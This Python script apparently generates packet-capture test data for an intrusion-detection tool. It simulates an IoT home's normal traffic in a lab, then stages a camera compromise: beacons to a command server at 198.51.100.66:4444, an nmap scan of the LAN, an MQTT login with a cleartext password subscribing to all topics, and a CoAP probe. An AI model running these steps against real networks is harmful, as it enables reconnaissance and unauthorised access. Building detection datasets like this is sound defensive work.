#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Records an hour of an IoT home, then the takeover of its camera. Needs root; see ../README.md.

usage: record.py OUTPUT-FOLDER
"""

import heapq
import os
import random
import signal
import subprocess
import sys
import tempfile
import time

import captures
import home

PACE = 10            # the hour of normal life is recorded ten times faster than it is stamped
NORMAL = 3600        # seconds of life at that pace
REAL_NORMAL = 60     # seconds of normal life at its own pace, before the takeover
TAKEOVER = 210       # seconds of the takeover
PASSWORD = "hunter2-not-a-secret"
HERE = os.path.dirname(os.path.abspath(__file__))
FAKETIME = "/usr/lib/x86_64-linux-gnu/faketime/libfaketime.so.1"


class Life:
    """Runs commands at moments of the home's own time, which first runs `PACE` times as fast as the clock."""

    def __init__(self, folder):
        self.folder, self.random = folder, random.Random(50)
        self.agenda, self.count = [], 0
        self.children, self.started = [], []
        self.begin = None

    def now(self):
        elapsed = time.time() - self.begin
        return elapsed * PACE if elapsed * PACE < NORMAL else NORMAL + elapsed - NORMAL / PACE

    def at(self, moment, action):
        self.count += 1
        heapq.heappush(self.agenda, (moment, self.count, action))

    def every(self, interval, first, action, jitter=0.03):
        def again(planned):
            action()
            following = planned + interval
            self.at(following + self.random.uniform(-jitter, jitter) * interval, lambda: again(following))
        self.at(first, lambda: again(first))

    def live(self, end):
        while True:
            moment, _, action = self.agenda[0]
            if moment >= end:
                break
            while self.now() < moment:
                time.sleep(0.005)
            heapq.heappop(self.agenda)
            action()
            self.children = [child for child in self.children if child.poll() is None]
        while self.now() < end:
            time.sleep(0.005)

    def start(self, name, *command, **options):
        """Starts what runs until the end."""
        process = subprocess.Popen(home.inside(name, *command), stdout=subprocess.DEVNULL,
                                   stderr=subprocess.DEVNULL, **options)
        self.started.append(process)
        return process

    def do(self, name, script):
        """Runs what ends by itself."""
        self.children.append(subprocess.Popen(home.inside(name, "sh", "-c", script), stdin=subprocess.DEVNULL,
                                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))

    def stop(self):
        for process in [*self.children, *self.started]:
            process.terminate()
        for process in [*self.children, *self.started]:
            process.wait()


class PacedClient:
    """A long-lived client whose own timers (MQTT keep-alive) follow the home's time, by libfaketime."""

    def __init__(self, life, name, *command, **options):
        self.file = os.path.join(life.folder, f"pace-{len(life.started)}")
        self.write(f"+0 x{PACE}")
        environment = os.environ | {"LD_PRELOAD": FAKETIME, "FAKETIME_TIMESTAMP_FILE": self.file,
                                    "FAKETIME_NO_CACHE": "1"}
        self.begin = time.time()
        self.process = life.start(name, "env", *[f"{key}={environment[key]}" for key in
                                                 ("LD_PRELOAD", "FAKETIME_TIMESTAMP_FILE", "FAKETIME_NO_CACHE")],
                                  *command, **options)

    def write(self, text):
        with open(self.file + ".new", "w") as file:
            file.write(text + "\n")
        os.rename(self.file + ".new", self.file)

    def slow_down(self):
        """From here on real time, without a jump."""
        self.write(f"+{(time.time() - self.begin) * (PACE - 1) + 0.05:.2f} x1")


def certify(folder, host):
    """A certificate that was already valid an hour ago, when the stretched capture begins."""
    subprocess.run(["faketime", "-f", "-30d", "openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                    "ec_paramgen_curve:P-256", "-nodes", "-days", "397", "-subj", f"/CN={host}",
                    "-addext", f"subjectAltName=DNS:{host}", "-keyout", f"{folder}/{host}.key",
                    "-out", f"{folder}/{host}.pem"], check=True, stderr=subprocess.DEVNULL)


def start_servers(life):
    names = [f"--address=/{host}/{own}" for host, own in home.SERVER_HOSTS.items()]
    leases = [f"--dhcp-host={home.mac(octet)},{home.address(name)},{name}" for name, octet in home.LEASED.items()]
    life.start("router", "dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--no-hosts", "--no-resolv",
               "--interface=eth0", "--bind-interfaces", "--no-ping", "--user=root", "--domain=home.arpa",
               "--dhcp-range=192.168.50.20,192.168.50.99,15m", "--dhcp-authoritative",
               f"--dhcp-leasefile={life.folder}/leases", f"--pid-file={life.folder}/dnsmasq.pid", *names, *leases)
    with open(f"{life.folder}/mosquitto.conf", "w") as file:
        file.write("listener 1883 0.0.0.0\nallow_anonymous true\npersistence false\n")
    life.start("hub", "mosquitto", "-c", f"{life.folder}/mosquitto.conf")
    for host, own in home.SERVER_HOSTS.items():
        certify(life.folder, host)
        version = ["-no_tls1_3"] if host == "api.thermostat.example" else []
        life.start("cloud", "openssl", "s_server", "-accept", f"{own}:443", "-www", *version,
                   "-key", f"{life.folder}/{host}.key", "-cert", f"{life.folder}/{host}.pem")
    life.start("cloud", "python3", "-c", f"""
import socket
server = socket.create_server(("{home.COMMAND_SERVER}", 4444))
while True:
    client, _ = server.accept()
    if client.recv(256):
        client.sendall(b"wait\\n")
    client.close()
""")


def check_in(host, octets, options=""):
    """A TLS connection that uploads about `octets` octets and reads the answer."""
    lines = f"head -c {octets * 3 // 4} /dev/urandom | base64" if octets else "true"
    return (f"({lines}; printf 'GET / HTTP/1.0\\r\\n\\r\\n'; sleep 0.3) | "
            f"openssl s_client -quiet -no_ign_eof -connect {host}:443 -servername {host} {options}")


def plan_normal_life(life):
    clients = {}
    for position, name in enumerate(home.LEASED):
        life.at(1 + position * 2, lambda name=name: clients.update({name: life.start(
            name, "udhcpc", "-f", "-i", "eth0", "-s", f"{HERE}/lease.sh", "-x", f"hostname:{name}",
            "-V", f"{name}-firmware 2.4", "-t", "5", "-T", "1")}))
        # A lease lasts 15 minutes and is renewed at half of that.
        life.every(450, 450 + position * 7, lambda name=name: os.kill(client_of(clients[name]), signal.SIGUSR1))
    life.at(40, lambda: life.start("plug", "coap-server-notls", "-A", home.address("plug"), "-d", "4"))
    plan_thermostat(life, clients)

    life.every(60, 60, lambda: life.do("camera", check_in(
        "cloud.camera.example", life.random.randrange(3000, 5000))), jitter=0.05)
    life.every(120, 75, lambda: life.do("thermostat", check_in("api.thermostat.example", 300)))
    life.every(300, 85, lambda: life.do("plug", check_in("iot.plug.example", 200)))
    life.every(300, 95, lambda: life.do("hub", check_in("updates.hub.example", 400)))
    life.every(50, 62, lambda: life.do(
        "motion", "mosquitto_pub -h 192.168.50.2 -i motion-77c2 -q 1 -t home/hall/motion "
        f"-m '{{\"motion\":{life.random.choice(['true', 'false', 'false'])},\"battery\":87}}'"), jitter=0.2)

    plug = "coap://192.168.50.24"
    life.every(30, 70, lambda: life.do("hub", f"coap-client-notls -B 1 -m get {plug}/time"))
    life.every(300, 80, lambda: life.do(
        "hub", f"coap-client-notls -B 1 -m put -e {life.random.choice(['on', 'off'])} {plug}/relay; "
        f"coap-client-notls -B 1 -m get {plug}/relay"))


def client_of(process):
    """`ip netns exec` replaces itself by the program, so the process is the client itself."""
    return process.pid


def plan_thermostat(life, clients):
    broker = ["-h", "192.168.50.2", "-k", "60", "-V", "mqttv311"]

    def connect():
        clients["commands"] = PacedClient(life, "thermostat", "mosquitto_sub", *broker, "-i", "thermostat-1f3a-in",
                                          "-q", "1", "-t", "home/living-room/thermostat/set")
        clients["telemetry"] = PacedClient(life, "thermostat", "mosquitto_pub", *broker, "-i", "thermostat-1f3a-out",
                                           "-q", "1", "-l", "-t", "home/living-room/thermostat/state",
                                           stdin=subprocess.PIPE)

    def tell():
        temperature = 20.5 + life.random.randrange(0, 12) / 10
        line = f'{{"temperature":{temperature:.1f},"target":21.0,"valve":{life.random.randrange(20, 60)}}}\n'
        clients["telemetry"].process.stdin.write(line.encode())
        clients["telemetry"].process.stdin.flush()

    life.at(50, connect)
    life.every(30, 65, tell)
    life.every(300, 110, lambda: life.do("hub", "mosquitto_pub -h 127.0.0.1 -i hub-automation -q 1 "
                                         "-t home/living-room/thermostat/set -m '{\"target\":21.0}'"))
    life.at(NORMAL, lambda: [clients[name].slow_down() for name in ("commands", "telemetry")])
    life.at(NORMAL, lambda: [home.pace_neighbours(name, 1) for name in [*home.STATIC, *home.LEASED]])


def plan_takeover(life, log):
    begin = NORMAL + REAL_NORMAL

    def step(after, what, script):
        def act():
            log.append((time.time(), what))
            life.do("camera", script)
        life.at(begin + after, act)

    call = ("python3 -c 'import socket; s = socket.create_connection((\"198.51.100.66\", 4444), 5); "
            "s.sendall(b\"id camera armv7l 0 ready\\n\"); s.recv(64)'")
    for number in range(TAKEOVER // 10):
        step(2 + number * 10 + life.random.uniform(-0.4, 0.4), f"call {number + 1} to 198.51.100.66:4444", call)
    step(12, "sweep of 192.168.50.0/24 by ARP, then a scan of 8 TCP ports",
         "nmap -n -sS --max-rate 25 --max-retries 1 -p 22,23,80,554,1883,2323,5683,8080 192.168.50.0/24")
    login = f"-h 192.168.50.2 -i cam-7f31 -u admin -P {PASSWORD}"
    step(60, "MQTT with name and password in the clear, subscription to #", f"mosquitto_sub {login} -t '#' -W 140")
    step(75, "CoAP GET /.well-known/core to the plug",
         "coap-client-notls -B 2 -m get coap://192.168.50.24/.well-known/core")


def main(output):
    home.build(PACE)
    folder = tempfile.mkdtemp(prefix="vedette-home-")
    life, log = Life(folder), []
    raw = os.path.join(folder, "raw.pcap")
    try:
        start_servers(life)
        time.sleep(1)
        life.start("lan", "tcpdump", "-i", home.BRIDGE, "-s", "0", "-U", "-w", raw, "-Z", "root")
        time.sleep(1)
        life.begin = time.time()
        plan_normal_life(life)
        plan_takeover(life, log)
        life.live(NORMAL + REAL_NORMAL + TAKEOVER)
        time.sleep(1)
    finally:
        life.stop()
        home.tear_down()
    switch = int((life.begin + NORMAL / PACE) * captures.MICROSECONDS)
    takeover = switch + REAL_NORMAL * captures.MICROSECONDS
    header, packets = captures.read(raw)
    packets = captures.stretched(packets, switch, PACE)
    captures.write(os.path.join(output, "iot-home/input.pcap"), header, packets)
    slice_of = captures.between(packets, switch, takeover + 90 * captures.MICROSECONDS)
    captures.write(os.path.join(output, "iot-home-takeover/input.pcap"), header, slice_of)
    print(f"{len(packets)} packets, {len(slice_of)} in the slice; takeover begins at packet "
          f"{1 + sum(packet[0] < takeover for packet in packets)}")
    for moment, what in log:
        number = 1 + sum(packet[0] < moment * captures.MICROSECONDS for packet in packets)
        print(f"{moment:.6f}\t{number}\t{what}")


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    main(sys.argv[1])
